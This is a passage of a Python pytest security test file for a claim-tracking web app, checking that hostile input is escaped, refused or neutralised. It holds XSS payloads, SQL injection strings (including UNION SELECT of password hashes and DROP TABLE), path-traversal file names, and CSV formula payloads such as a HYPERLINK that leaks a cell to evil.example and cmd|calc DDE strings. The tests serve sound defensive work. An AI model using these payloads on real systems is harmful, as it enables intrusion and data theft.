"""Hostile input: markup, SQL, spreadsheet formulas, path tricks in file names, odd encodings,
huge or deeply nested bodies, wrong content types, forms without CSRF tokens, the wrong role and
dead API tokens.

Every case is one row of a table below, parametrised with a readable id. Each row asserts a clear
4xx with a readable sentence (JSON {"error": ...} for /api, the message on the page otherwise) or
safe storage, and never a 500; row counts of every table are compared before and after, so
nothing is lost or half-written. Rows marked xfail(strict=True) are app bugs, named in the reason.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlencode

import pytest
import sqlalchemy as sa
from markupsafe import escape
from sqlmodel import Session, select

from claims.models import (
    ApiToken,
    Article,
    AuditEntry,
    Claim,
    ClaimLink,
    Comment,
    Source,
    User,
    Verdict,
    utcnow,
)
from claims.services.users import create_token, find_user, revoke_token, update_user
from claims.text.normalise import strip_invisible
from tests.conftest import PASSWORDS, HashingEmbedder, login, make_app

ROOT = Path(__file__).resolve().parent.parent
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
MODELS = (Source, Article, Claim, ClaimLink, Verdict, Comment, User, ApiToken, AuditEntry)
CSRF_MESSAGE = "This form has expired or did not come from this site."

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
SVG = '"><svg onload=alert(1)>'
JS_URL = "javascript:alert(1)"
BREAKOUT = "</script><script>alert(1)</script>"

SHARED = "Officials confirmed that 300 new homes were built in the harbour district in 2023."
OTHER = "The finance minister claimed that exports rose by 12 percent last year."


# --- helpers ---------------------------------------------------------------------------------


def engine(app):
    """Return the app's database engine."""
    return app.extensions["claims"].engine


def counts(app) -> dict[str, int]:
    """Count the rows of every table a request could write (sign-in attempts aside)."""
    with Session(engine(app)) as session:
        return {
            model.__name__: session.exec(select(sa.func.count()).select_from(model)).one()
            for model in MODELS
        }


def table_names(app) -> set[str]:
    """Return the database's tables, to show none was dropped."""
    return set(sa.inspect(engine(app)).get_table_names())


def rows(app, model, *where) -> list:
    """Return the rows of one model matching the conditions."""
    with Session(engine(app)) as session:
        return list(session.exec(select(model).where(*where)))


def json_error(response, status: int, *words: str) -> str:
    """Assert a JSON {"error": sentence} with this status, naming each word; return it."""
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/json"
    data = response.get_json()
    assert set(data) == {"error", "code"}, data
    assert re.fullmatch(r"[a-z]+(_[a-z]+)*", data["code"]), data
    message = data["error"]
    assert isinstance(message, str) and len(message) > 10 and message.rstrip().endswith(".")
    assert "Traceback" not in message
    for word in words:
        assert word in message, message
    return message


def page_error(response, status: int, *words: str) -> str:
    """Assert an HTML page with this status whose alert names each word; return the sentence."""
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/html"
    text = response.get_data(as_text=True)
    match = re.search(r'<p class="error" role="alert"[^>]*>(.*?)</p>', text, re.DOTALL)
    assert match, text[:1000]
    message = html.unescape(match.group(1)).strip()
    assert len(message) > 10 and "Traceback" not in text
    for word in words:
        assert word in message, message
    return message


def post_article(client, **fields) -> dict:
    """Import an article through the API and return the response body (asserting a 201)."""
    payload = {"title": "Harbour homes", "source": "Daily Ledger", "body": SHARED, **fields}
    response = client.post("/api/articles", json=payload)
    assert response.status_code == 201, response.get_data(as_text=True)[:500]
    return response.get_json()


def unique_body(prefix: str = "") -> str:
    """A fresh, claim-bearing body (articles are deduplicated by their text)."""
    n = uuid.uuid4().int % 9000 + 1000
    return f"{prefix}The council said {n} homes were built in the harbour district in 2023."


def seed(client, app) -> SimpleNamespace:
    """Two articles from two sources sharing a sentence, so a suggested link exists."""
    a = post_article(client, body=f"{SHARED}\n\n{OTHER}")
    b = post_article(
        client,
        title="Housing report",
        source="Evening Post",
        body=f"Reporters said the mayor spoke on Monday about the budget.\n\n{SHARED}",
    )
    links = rows(app, ClaimLink)
    assert links, "the shared sentence should have been linked"
    claim_a = next(c for c in a["claims"] if c["text"] == SHARED)
    return SimpleNamespace(
        article_id=a["article"]["id"],
        other_article_id=b["article"]["id"],
        claim_id=claim_a["id"],
        link_id=links[0].id,
    )


class _Tags(HTMLParser):
    """Collect start tags and inline script text, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self._script: dict[str, str] | None = None

    def handle_starttag(self, tag, attrs):
        attributes = {k.lower(): v or "" for k, v in attrs}
        self.tags.append((tag, attributes))
        if tag == "script":
            self._script = attributes
            self.scripts.append((attributes, ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            attributes, text = self.scripts[-1]
            self.scripts[-1] = (attributes, text + data)


def injected(page: str) -> list[str]:
    """Return whatever in the page a browser would run or load that the templates never emit."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    found = []
    for tag, attributes in parser.tags:
        if tag in ("img", "svg", "iframe", "object", "embed"):
            found.append(f"<{tag}> element")
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"{name}= on <{tag}>")
            if name not in ("href", "src", "action", "formaction"):
                continue
            scheme = re.match(r"\s*([a-z]+)\s*:", value, re.IGNORECASE)
            scheme = scheme.group(1).lower() if scheme else ""
            # data: is inert on <link rel=icon> (the templates' blank favicon), not elsewhere.
            if scheme in ("javascript", "vbscript") or (scheme == "data" and tag != "link"):
                found.append(f"{name}={value!r} on <{tag}>")
    for attributes, text in parser.scripts:
        if attributes.get("type") == "application/json":
            json.loads(text)  # a data block must stay pure JSON, with no markup inside
            if "<" in text:
                found.append("markup inside a JSON data block")
        elif "src" not in attributes:
            found.append(f"inline script {text[:60]!r}")
    return found


def assert_escaped(client, path: str, payload: str, *, stripped: bool = False) -> None:
    """Assert the page renders, runs nothing injected, and shows the payload only escaped."""
    response = client.get(path)
    assert response.status_code == 200, (path, response.get_data(as_text=True)[:300])
    page = response.get_data(as_text=True)
    assert injected(page) == [], (path, injected(page))
    escaped = str(escape(payload))
    if stripped:
        assert "alert(" not in page, path
    else:
        assert escaped in page, f"{path}: escaped payload missing"
    if escaped != payload:
        assert payload not in page, f"{path}: raw payload rendered"


def csrf_token(response) -> str:
    """Read the CSRF token from a page's meta tag."""
    match = re.search(r'<meta name="csrf-token" content="([^"]+)"', response.get_data(as_text=True))
    assert match, response.get_data(as_text=True)[:500]
    return match.group(1)


def multipart(parts: list[tuple[bytes, bytes | None, bytes]]) -> tuple[bytes, str]:
    """Build a raw multipart body from (name, filename or None, content), bytes kept verbatim."""
    boundary = b"hostile-" + uuid.uuid4().hex.encode()
    chunks = []
    for name, filename, content in parts:
        disposition = b'Content-Disposition: form-data; name="' + name + b'"'
        if filename is not None:
            disposition += b'; filename="' + filename + b'"'
        chunks.append(b"--" + boundary + b"\r\n" + disposition + b"\r\n")
        if filename is not None:
            chunks.append(b"Content-Type: text/plain\r\n")
        chunks.append(b"\r\n" + content + b"\r\n")
    chunks.append(b"--" + boundary + b"--\r\n")
    return b"".join(chunks), f"multipart/form-data; boundary={boundary.decode()}"


def export_rows(client) -> list[dict[str, str]]:
    """Download the verdict CSV, assert no cell could run as a formula, and return its rows."""
    response = client.get("/export/verdicts.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    table = list(csv.reader(io.StringIO(text, newline="")))
    header, body = table[0], table[1:]
    for number, row in enumerate(table):
        assert len(row) == len(header), (number, row)
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (number, cell)
    return [dict(zip(header, row, strict=True)) for row in body]


# --- 1. markup: stored verbatim, rendered escaped (or stripped from HTML) -----------------------


def _pages(app, *paths: str) -> list[str]:
    """Keep the dashboard only where this checkout has one."""
    has_dashboard = "dashboard.index" in app.view_functions
    return [p for p in paths if has_dashboard or p != "/dashboard"]


def plant_title(client, app, payload):
    data = post_article(client, title=f"{payload} Budget", body=unique_body())
    stored = client.get(f"/api/articles/{data['article']['id']}").get_json()["article"]
    assert stored["title"] == f"{payload} Budget"
    claim = data["claims"][0]["id"]
    return _pages(
        app,
        f"/articles/{data['article']['id']}",
        f"/claims/{claim}",
        "/articles",
        "/search?q=council+homes+harbour",
        "/admin/audit",
    )


def plant_source(client, app, payload):
    data = post_article(client, source=payload, body=unique_body())
    claim = client.get(f"/api/claims/{data['claims'][0]['id']}").get_json()["claim"]
    assert claim["article"]["source"] == payload
    return _pages(
        app,
        f"/claims/{claim['id']}",
        "/claims",
        "/search?q=council+homes+harbour",
        "/export",
        "/dashboard",
    )


def plant_body(client, app, payload):
    body = f"The mayor said {payload} when 300 homes were built in the old harbour in 2023."
    data = post_article(client, body=body)
    assert data["claims"][0]["text"] == body
    stored = client.get(f"/api/articles/{data['article']['id']}").get_json()["article"]
    assert stored["body"] == body
    return _pages(
        app,
        f"/articles/{data['article']['id']}",
        f"/claims/{data['claims'][0]['id']}",
        "/claims",
        "/search?q=mayor+homes+harbour",
    )


def plant_html_body(client, app, payload):
    body = (
        f"<p>The mayor said 300 homes were built in the old harbour in 2023.</p>{payload}"
        f'<p onclick="alert(1)">Officials added that 40 schools opened in the city last year.</p>'
    )
    data = post_article(client, body=body)
    stored = client.get(f"/api/articles/{data['article']['id']}").get_json()["article"]
    assert "alert" not in stored["body"] and "<" not in stored["body"], stored["body"]
    assert "300 homes" in stored["body"] and "40 schools" in stored["body"]
    return [f"/articles/{data['article']['id']}", f"/claims/{data['claims'][0]['id']}"]


def plant_html_upload(client, app, payload):
    page = (
        f"<html><head><title>Budget {payload}</title></head><body>"
        f"<p>The mayor said 300 homes were built in the old harbour in 2023.</p>"
        f"{payload}{IMG}<p onmouseover='alert(2)'>Officials added that 40 schools opened.</p>"
        f"</body></html>"
    )
    files = {"files": [(io.BytesIO(page.encode()), "story.html")], "source": "Wire"}
    response = client.post("/articles/new", data=files, content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    (article,) = rows(app, Article)
    assert article.title == "Budget" and "alert" not in article.body and "<" not in article.body
    return ["/articles", f"/articles/{article.id}"]


def plant_comment(client, app, payload):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    response = client.post(f"/claims/{claim}/comments", data={"body": payload})
    assert response.status_code == 302
    assert [c.body for c in rows(app, Comment)] == [payload]
    return [f"/claims/{claim}"]


def plant_explanation(client, app, payload):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    form = {"rating": "false", "explanation": payload}
    assert client.post(f"/claims/{claim}/verdicts", data=form).status_code == 302
    (verdict,) = client.get(f"/api/claims/{claim}/verdicts").get_json()["verdicts"]
    assert verdict["explanation"] == payload
    return [f"/claims/{claim}"]


def plant_evidence(client, app, payload):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    form = {"rating": "false", "explanation": "See the link.", "evidence_urls": payload}
    assert client.post(f"/claims/{claim}/verdicts", data=form).status_code == 302
    (verdict,) = client.get(f"/api/claims/{claim}/verdicts").get_json()["verdicts"]
    assert verdict["evidence_urls"] == [payload]
    return [f"/claims/{claim}"]


def plant_javascript_urls(client, app, payload):
    before = counts(app)
    article = {"title": "T", "source": "S", "body": unique_body(), "url": payload.upper()}
    json_error(client.post("/api/articles", json=article), 400, "url", "not an http or https URL")
    assert counts(app) == before
    claim = post_article(client, title=payload, body=unique_body())["claims"][0]["id"]
    before = counts(app)
    form = {"rating": "false", "explanation": "x", "evidence_urls": f" {payload}"}
    page_error(client.post(f"/claims/{claim}/verdicts", data=form), 400, "not an http")
    assert counts(app) == before
    # The title keeps the text, but only as text: no link anywhere points at it.
    return [f"/claims/{claim}", "/articles"]


def plant_search(client, app, payload):
    post_article(client, body=unique_body())
    api = client.get("/api/search", query_string={"q": f"{payload} homes"})
    assert api.status_code == 200 and api.get_json()["query"] == f"{payload} homes"
    return ["/search?" + urlencode({"q": f"{payload} homes"})]


def plant_token_name(client, app, payload):
    response = client.post("/account/tokens", data={"name": payload})
    assert response.status_code == 200
    assert injected(response.get_data(as_text=True)) == []
    (token,) = rows(app, ApiToken)
    assert token.name == payload
    revoked = client.post(f"/account/tokens/{token.id}/revoke", follow_redirects=True)
    assert revoked.status_code == 200 and injected(revoked.get_data(as_text=True)) == []
    assert str(escape(f"Revoked token {payload}.")) in revoked.get_data(as_text=True)
    return ["/account/tokens"]


def plant_dashboard_conflict(client, app, payload):
    sentence = f"Officials said {payload} that 300 homes were built in the harbour in 2023."
    a = post_article(client, source=f"{payload} A", body=sentence)["claims"][0]["id"]
    b = post_article(client, source=f"{payload} B", body=f"{OTHER}\n\n{sentence}")
    b = next(c["id"] for c in b["claims"] if c["text"] == sentence)
    (link,) = rows(app, ClaimLink)
    decided = client.post(f"/links/{link.id}", data={"state": "confirmed", "claim_id": a})
    assert decided.status_code == 302
    for claim, rating in ((a, "false"), (b, "true")):
        verdict = {"rating": rating, "explanation": "Checked."}
        assert client.post(f"/api/claims/{claim}/verdicts", json=verdict).status_code == 201
    if "dashboard.index" not in app.view_functions:
        pytest.skip("this checkout has no /dashboard")
    assert "Conflicting verdicts" in client.get("/dashboard").get_data(as_text=True)
    return ["/dashboard", f"/claims/{a}"]


@dataclass(frozen=True)
class Markup:
    id: str
    plant: Callable
    payload: str
    stripped: bool = False


MARKUP_CASES = [
    Markup("title-script-tag", plant_title, SCRIPT),
    Markup("title-attribute-breakout-svg", plant_title, SVG),
    Markup("source-img-onerror", plant_source, IMG),
    Markup("source-closes-script-block", plant_source, BREAKOUT),
    Markup("body-img-onerror", plant_body, IMG),
    Markup("body-attribute-breakout-svg", plant_body, SVG),
    Markup("body-html-script-stripped", plant_html_body, SCRIPT, stripped=True),
    Markup("upload-html-script-stripped", plant_html_upload, SCRIPT, stripped=True),
    Markup("comment-script-and-img", plant_comment, f"{SCRIPT} {IMG}"),
    Markup("explanation-svg-and-img", plant_explanation, f"{SVG} {IMG}"),
    Markup("evidence-url-quote-breakout", plant_evidence, 'https://e.example/"onmouseover="x()'),
    Markup("javascript-urls-refused-or-inert", plant_javascript_urls, JS_URL),
    Markup("search-query-svg-and-script", plant_search, f"{SVG} {SCRIPT}"),
    Markup("token-name-script", plant_token_name, SCRIPT),
    Markup("dashboard-conflict-img", plant_dashboard_conflict, IMG),
]


@pytest.mark.parametrize("case", MARKUP_CASES, ids=lambda c: c.id)
def test_markup_is_stored_verbatim_and_rendered_escaped(client, app, case):
    pages = case.plant(client, app, case.payload)
    assert pages
    for path in pages:
        assert_escaped(client, path, case.payload, stripped=case.stripped)


# --- 2. SQL injection: data, not SQL ----------------------------------------------------------


UNION = "%' UNION SELECT username, password_hash, role FROM user --"


@dataclass(frozen=True)
class Sql:
    id: str
    path: str
    params: dict[str, str]
    status: int = 200
    check: Callable | None = None


def _no_rows_in_api(response, app):
    assert response.get_json()["total"] == 0 and response.get_json()["claims"] == []


def _no_rows_in_queue(response, app):
    assert "No claims match these filters." in response.get_data(as_text=True)


def _no_rows_in_csv(response, app):
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    assert len(list(csv.reader(io.StringIO(text)))) == 1  # the header alone


def _no_secrets(response, app):
    text = response.get_data(as_text=True)
    hashes = [user.password_hash for user in rows(app, User)]
    assert hashes and not any(h in text or h.split("$")[-1] in text for h in hashes)
    assert "scrypt:" not in text and "pbkdf2:" not in text


SQL_CASES = [
    Sql("search-page-q-or-1-1", "/search", {"q": "' OR 1=1 --"}, check=_no_secrets),
    Sql("api-search-q-union-select", "/api/search", {"q": UNION}, check=_no_secrets),
    Sql("search-page-q-drop-table", "/search", {"q": '"; DROP TABLE claim; --'}),
    Sql("queue-source-filter-or", "/claims", {"source": "' OR '1'='1"}, check=_no_rows_in_queue),
    Sql("api-source-filter-or", "/api/claims", {"source": "x' OR 1=1 --"}, check=_no_rows_in_api),
    Sql("api-lang-filter-short", "/api/claims", {"lang": "'--"}, check=_no_rows_in_api),
    Sql("api-language-filter-long", "/api/claims", {"language": "' OR 1=1 --"}, status=400),
    Sql(
        "export-source-filter-union",
        "/export/verdicts.csv",
        {"source": UNION},
        200,
        _no_rows_in_csv,
    ),
    Sql("api-search-source-filter", "/api/search", {"q": "homes", "source": "' OR 1=1 --"}),
]


@pytest.mark.parametrize("case", SQL_CASES, ids=lambda c: c.id)
def test_sql_in_queries_is_data(client, app, case):
    world = seed(client, app)
    form = {"rating": "false", "explanation": "Checked."}
    assert client.post(f"/api/claims/{world.claim_id}/verdicts", json=form).status_code == 201
    before, tables = counts(app), table_names(app)
    response = client.get(case.path, query_string=case.params)
    if case.status == 200:
        assert response.status_code == 200, response.get_data(as_text=True)[:500]
    elif case.path.startswith("/api/"):
        json_error(response, case.status, "language")
    else:
        page_error(response, case.status)
    if case.check:
        case.check(response, app)
    assert table_names(app) == tables and counts(app) == before
    # The same filter without the injection still finds the data: the table is intact.
    assert client.get("/api/claims").get_json()["total"] == before["Claim"]


@pytest.mark.parametrize(
    ("title", "source"),
    [
        ('"; DROP TABLE claim; --', "Robert'); DROP TABLE article;--"),
        ("' OR 1=1 --", "%' UNION SELECT password_hash FROM user --"),
    ],
    ids=["form-drop-table", "form-or-1-1-union"],
)
def test_sql_in_form_fields_is_stored_verbatim(client, app, title, source):
    tables = table_names(app)
    data = {"title": title, "source": source, "body": unique_body()}
    response = client.post("/articles/new", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    (article,) = rows(app, Article)
    (stored_source,) = rows(app, Source)
    assert (article.title, stored_source.name) == (title, source)
    assert table_names(app) == tables and counts(app)["Claim"] >= 1
    queue = client.get("/claims", query_string={"source": source})
    assert queue.status_code == 200 and str(escape(source)) in queue.get_data(as_text=True)


@pytest.mark.parametrize(
    "username", ["' OR 1=1 --", "admin' --", 'admin"; DROP TABLE user; --'], ids=repr
)
def test_sql_in_the_login_username_is_refused(anonymous, app, username):
    before, tables = counts(app), table_names(app)
    response = anonymous.post("/login", data={"username": username, "password": "' OR '1'='1"})
    assert page_error(response, 401) == "Wrong username or password, or the account is disabled."
    assert anonymous.get("/claims").status_code == 302  # still signed out
    assert counts(app) == before and table_names(app) == tables


# --- 3. CSV formulas: never a cell a spreadsheet would run -------------------------------------


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
AT_CMD = "@SUM(1+1)*cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Formula:
    id: str
    column: str
    payload: str


def plant_formula(client, app, case: Formula) -> int:
    """Put the payload where the case says, record a verdict, return the claim id."""
    fields = {"body": unique_body()}
    if case.column in ("article_title", "source"):
        fields["title" if case.column == "article_title" else "source"] = case.payload
    if case.column == "claim" and case.id.startswith("body"):
        fields["body"] = case.payload
    data = post_article(client, **fields)
    claim = data["claims"][0]["id"]
    if case.column == "claim" and case.id.startswith("edited"):
        edited = client.post(f"/claims/{claim}/text", data={"text": case.payload})
        assert edited.status_code == 302, edited.get_data(as_text=True)[:500]
    explanation = case.payload if case.column == "explanation" else "Checked."
    form = {"rating": "misleading", "explanation": explanation}
    assert client.post(f"/claims/{claim}/verdicts", data=form).status_code == 302
    return claim


FORMULA_CASES = [
    Formula("title-hyperlink", "article_title", HYPERLINK),
    Formula("title-minus-cmd", "article_title", "-2+3+cmd|' /C calc'!A0"),
    Formula("title-tab-prefix", "article_title", "\t=1+1"),
    Formula("title-cr-prefix", "article_title", "\r=SUM(A1:A9)"),
    Formula("source-at-sum-cmd", "source", AT_CMD),
    Formula("source-plus-cmd", "source", "+cmd|' /C notepad'!A0"),
    Formula("body-claim-equals", "claim", "=1+1 the mayor said that 300 homes were built in 2023."),
    Formula("edited-claim-at-cmd", "claim", f"{AT_CMD} is what the minister said about exports."),
    Formula("explanation-hyperlink", "explanation", HYPERLINK),
    Formula("explanation-cr-prefix", "explanation", "\r=1+1 is what the sheet would compute"),
    Formula("explanation-tab-at", "explanation", "\t@cmd|' /C calc'!A0"),
]


@pytest.mark.parametrize("case", FORMULA_CASES, ids=lambda c: c.id)
def test_csv_export_neutralises_formulas(client, app, case):
    claim = plant_formula(client, app, case)
    exported = {row["claim_id"]: row for row in export_rows(client)}
    cell = exported[str(claim)][case.column]
    # Kept in full (nothing lost), behind the apostrophe that makes it text.
    assert cell.startswith("'") and cell[1:].strip() == case.payload.strip(), cell


@pytest.mark.parametrize(
    "evidence",
    [HYPERLINK, f"https://ok.example/a\n{AT_CMD}", "+cmd|' /C calc'!A0"],
    ids=["evidence-hyperlink", "evidence-second-url-at-cmd", "evidence-plus-cmd"],
)
def test_formula_evidence_urls_are_refused(client, app, evidence):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    before = counts(app)
    form = {"rating": "false", "explanation": "Checked.", "evidence_urls": evidence}
    page_error(client.post(f"/claims/{claim}/verdicts", data=form), 400, "evidence_urls")
    api = {"rating": "false", "explanation": "Checked.", "evidence_urls": evidence.split("\n")}
    json_error(client.post(f"/api/claims/{claim}/verdicts", json=api), 400, "evidence_urls")
    assert counts(app) == before and export_rows(client) == []


# --- 4. path traversal and odd bytes in upload file names --------------------------------------


@dataclass(frozen=True)
class Upload:
    id: str
    filename: str  # {m} is a unique marker, {tmp} the test's folder; bytes sent verbatim
    title: str | None  # the stored title, or None when the upload is refused
    words: tuple[str, ...] = ()


UPLOAD_CASES = [
    Upload("dotdot-posix", "../../{m}.txt", "{m}"),
    Upload("dotdot-deep", "../../../../../../../../tmp/{m}.txt", "{m}"),
    Upload("dotdot-windows", "..\\\\..\\\\{m}.txt", "..\\..\\{m}"),
    Upload("absolute-posix-into-tmp", "{tmp}/../{m}.txt", "{m}"),
    Upload("absolute-windows-drive", "C:\\\\Windows\\\\{m}.txt", "C:\\Windows\\{m}"),
    Upload("nul-inside-name", "{m}\x00evil.txt", "{m}evil"),
    Upload("nul-before-extension", "{m}.txt\x00.exe", None, (".exe: unsupported file type",)),
    Upload("encoded-newline", "{m}%0A.txt", "{m}%0A"),
    Upload("dot-segments", "./{m}.d/./../{m}.txt", "{m}"),
    Upload("header-injection", '{m}.txt"\r\nContent-Type: text/html', "{m}"),
]


@pytest.mark.parametrize("case", UPLOAD_CASES, ids=lambda c: c.id)
def test_upload_file_names_are_never_paths(client, app, tmp_path, case):
    marker = f"hostile-{uuid.uuid4().hex[:12]}"
    name = case.filename.format(m=marker, tmp=tmp_path)
    content = unique_body().encode()
    body, content_type = multipart([(b"source", None, b"Wire"), (b"files", name.encode(), content)])
    # Wherever a name used as a path could land: the test folder, the checkout, the working and
    # instance folders, the temp folder, and every folder above them up to /.
    roots = [tmp_path, ROOT, Path.cwd(), Path(app.instance_path), Path(tempfile.gettempdir())]
    watched = {folder for root in roots for folder in (root, *root.parents)}
    listing = {folder: set(folder.iterdir()) for folder in watched if folder.is_dir()}
    # The app's own folders, to any depth: a name must not become a path even inside them.
    instance = Path(app.instance_path)
    deep = {p for root in (tmp_path, instance) if root.is_dir() for p in root.rglob("*")}
    before = counts(app)
    response = client.post("/articles/new", data=body, content_type=content_type)
    if case.title is None:
        page_error(response, 400, *case.words)
        assert counts(app) == before
    else:
        assert response.status_code == 302, response.get_data(as_text=True)[:500]
        (article,) = rows(app, Article)
        assert article.title == case.title.format(m=marker)
        assert article.body == content.decode()
        assert client.get(f"/articles/{article.id}").status_code == 200
    for folder, names in listing.items():
        new = {p.name for p in set(folder.iterdir()) - names}
        assert not any(marker in n for n in new), (folder, new)
    deep_new = {p for root in (tmp_path, instance) if root.is_dir() for p in root.rglob("*")}
    assert not any(marker in str(p) for p in deep_new - deep), deep_new - deep
    # In the test's own folder only the database and the index may appear.
    extra = {p.name for p in tmp_path.iterdir()} - {p.name for p in listing[tmp_path]}
    assert all(n.startswith(("test.db", "claims.")) for n in extra), extra


@pytest.mark.parametrize(
    "raw_name",
    [b"evil\nname.txt", b"caf\xe9.txt"],
    ids=["raw-newline", "invalid-utf8-name"],
)
def test_unparseable_upload_names_are_refused_cleanly(client, app, raw_name):
    before = counts(app)
    body, content_type = multipart([(b"files", raw_name, unique_body().encode())])
    response = client.post("/articles/new", data=body, content_type=content_type)
    # The part is unreadable, so no file is seen and the form's own fields are missing.
    page_error(response, 400, "title", "source", "body")
    assert counts(app) == before


# --- 5. NUL bytes, invalid UTF-8, lone surrogates, RTL overrides, emoji --------------------------


def raw_json(client, path: str, text: str):
    """POST a JSON document exactly as written (escapes such as \\ud800 included)."""
    return client.post(path, data=text.encode(), content_type="application/json")


@pytest.mark.parametrize(
    ("field", "escape_"),
    [
        ("title", "\\ud800"),
        ("source", "\\udfff"),
        ("body", "\\udc80"),
        ("url", "\\ud83d"),
    ],
    ids=["title-high-surrogate", "source-low-surrogate", "body-surrogate", "url-half-emoji"],
)
def test_lone_surrogates_in_json_are_refused(client, app, field, escape_):
    fields = {"title": "T", "source": "S", "body": unique_body(), "url": "https://a.example/x"}
    document = json.dumps(fields).replace(json.dumps(fields[field]), f'"x{escape_}y"', 1)
    before = counts(app)
    json_error(raw_json(client, "/api/articles", document), 400, field)
    assert counts(app) == before


def test_a_lone_surrogate_in_a_verdict_is_refused(client, app):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    before = counts(app)
    document = '{"rating": "false", "explanation": "bad \\ud800 text"}'
    json_error(raw_json(client, f"/api/claims/{claim}/verdicts", document), 400, "explanation")
    assert counts(app) == before


def _stored_or_refused(client, app, response, before, sent: dict) -> None:
    """Accept a clean 201 with the text kept (NULs may be dropped) or a clean 400."""
    if response.status_code == 400:
        json_error(response, 400)
        assert counts(app) == before
        return
    assert response.status_code == 201, response.get_data(as_text=True)[:500]
    data = response.get_json()
    stored = client.get(f"/api/articles/{data['article']['id']}").get_json()["article"]
    # NUL and invisible characters (bidi overrides, zero-width spaces) are dropped, nothing else.
    assert stored["title"] == strip_invisible(sent["title"]).strip()
    assert "\x00" not in stored["body"]
    assert stored["body"] == strip_invisible(sent["body"]).strip()
    for path in (f"/articles/{stored['id']}", f"/claims/{data['claims'][0]['id']}", "/claims"):
        assert client.get(path).status_code == 200, path
    assert "\x00" not in "".join(r["claim"] for r in export_rows(client))


@pytest.mark.parametrize(
    "fields",
    [
        {"title": "Budget\x00report", "body": "The mayor said 300 homes\x00 were built in 2023."},
        {
            "title": "\u202egnp.exe\u202c Budget",
            "body": "The mayor \u202esaid 300\u202c homes rose.",
        },
        {
            "title": "📈 Budget 🔥",
            "body": "Le ministre a déclaré que 300 logements 🏠 ont été bâtis.",
        },
        {
            "title": "ZWJ 👩‍👩‍👧 e\u0301",
            "body": "The mayor said 300 homes 👨‍👩‍👧 were built in 2023.",
        },
    ],
    ids=["nul-title-and-body", "rtl-override", "emoji", "zwj-and-combining"],
)
def test_odd_characters_in_articles_are_stored_or_refused(client, app, fields):
    before = counts(app)
    sent = {"source": "Wire 🌍", **fields}
    response = client.post("/api/articles", json=sent)
    _stored_or_refused(client, app, response, before, sent)
    if response.status_code == 201 and "\x00" not in sent["title"]:
        page = client.get(f"/articles/{response.get_json()['article']['id']}")
        assert str(escape(strip_invisible(sent["title"]))) in page.get_data(as_text=True)


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/search", b"q=homes%00built"),
        ("/api/search", b"q=homes%00built"),
        ("/search", b"q=%FF%FE%C0%AF+homes"),
        ("/api/search", b"q=%ED%A0%80+homes"),
        ("/search", b"q=%E2%80%AEsemoh+%F0%9F%8F%A0"),
        ("/api/search", b"q=%F0%9F%8F%A0&source=%00"),
        ("/claims", b"source=%FF%00&language=%E2%80%AE"),
    ],
    ids=[
        "page-nul",
        "api-nul",
        "page-invalid-utf8",
        "api-encoded-surrogate",
        "page-rtl-and-emoji",
        "api-emoji-nul-filter",
        "queue-filter-bytes",
    ],
)
def test_odd_bytes_in_queries_never_500(client, app, path, query):
    seed(client, app)
    before = counts(app)
    response = client.get(f"{path}?{query.decode('ascii')}")
    if response.status_code == 400:
        (json_error if path.startswith("/api/") else page_error)(response, 400)
    else:
        assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert counts(app) == before


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        (b"title=caf%E9+%FF&source=S&body=The+mayor+said+300+homes+were+built+in+2023.", "caf"),
        (b"title=Budget%00x&source=S%00&body=The+mayor+said+300+homes+were+built+in+2023.", "Bu"),
    ],
    ids=["invalid-utf8-form-fields", "nul-form-fields"],
)
def test_odd_bytes_in_form_fields_are_stored_or_refused(client, app, raw, kept):
    before = counts(app)
    response = client.post(
        "/articles/new", data=raw, content_type="application/x-www-form-urlencoded"
    )
    if response.status_code == 400:
        page_error(response, 400)
        assert counts(app) == before
        return
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    (article,) = rows(app, Article)
    assert article.title.startswith(kept)
    assert client.get(f"/articles/{article.id}").status_code == 200


# --- 6. size: huge bodies, many sentences, deep nesting, oversize fields -------------------------


TEN_MB = 10 * 1024 * 1024


def test_a_10_mb_api_body_is_413_json(client, app):
    before = counts(app)
    payload = json.dumps({"title": "T", "source": "S", "body": "word " * (TEN_MB // 5)})
    response = client.post("/api/articles", data=payload, content_type="application/json")
    json_error(response, 413, "too large", "2 MB")
    assert counts(app) == before


def test_a_10_mb_verdict_is_413_json(client, app):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    before = counts(app)
    payload = json.dumps({"rating": "false", "explanation": "x" * TEN_MB})
    response = client.post(
        f"/api/claims/{claim}/verdicts", data=payload, content_type="application/json"
    )
    json_error(response, 413, "2 MB")
    assert counts(app) == before


def test_a_10_mb_upload_is_a_413_page(client, app):
    before = counts(app)
    # Built by hand: the test client would spill a large body to a temporary file it never closes.
    body, content_type = multipart(
